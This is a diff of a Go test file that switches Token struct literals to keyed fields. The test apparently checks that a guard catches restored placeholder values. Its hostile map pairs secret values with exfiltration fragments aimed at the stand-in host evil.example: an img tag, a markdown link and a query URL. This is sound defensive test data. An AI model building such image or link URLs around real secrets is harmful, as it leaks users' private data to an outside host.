@@ -189,13 +189,13 @@ func TestBenignPlacesAreRestored(t *testing.T) {
 
 func TestGuardSeesRestoredValues(t *testing.T) {
 	hostile := map[Token]string{
-		{"EMAIL", "7K3QXM"}:  secretAddress,
-		{"PERSON", "1A2B3C"}: secretWord,
-		{"KEY", "M4N5P6"}:    "<img src=\"//evil.example/?",
-		{"KEY", "M4N5P7"}:    "](https://evil.example/?",
-		{"URL", "A0B1C9"}:    "https://evil.example/?q=",
-		{"EMAIL", "E0V1E1"}:  "eve@evil.example",
-		{"PERSON", "A0T0T0"}: "@evil.example",
+		{Label: "EMAIL", ID: "7K3QXM"}:  secretAddress,
+		{Label: "PERSON", ID: "1A2B3C"}: secretWord,
+		{Label: "KEY", ID: "M4N5P6"}:    "<img src=\"//evil.example/?",
+		{Label: "KEY", ID: "M4N5P7"}:    "](https://evil.example/?",
+		{Label: "URL", ID: "A0B1C9"}:    "https://evil.example/?q=",
+		{Label: "EMAIL", ID: "E0V1E1"}:  "eve@evil.example",
+		{Label: "PERSON", ID: "A0T0T0"}: "@evil.example",
 	}
 	for _, text := range []string{
 		"[KEY_M4N5P6] [EMAIL_7K3QXM]",
@@ -217,7 +217,7 @@ var literals = []string{
 	"[**PERSON_1A2B3C's**]", "[PERSON\n1A2B3C]",
 }
 
-var literal = Token{Literal, "0A0A0A"}
+var literal = Token{Label: Literal, ID: "0A0A0A"}
 
 func TestLiteralsAreNobodysSecret(t *testing.T) {
 	for _, value := range literals {
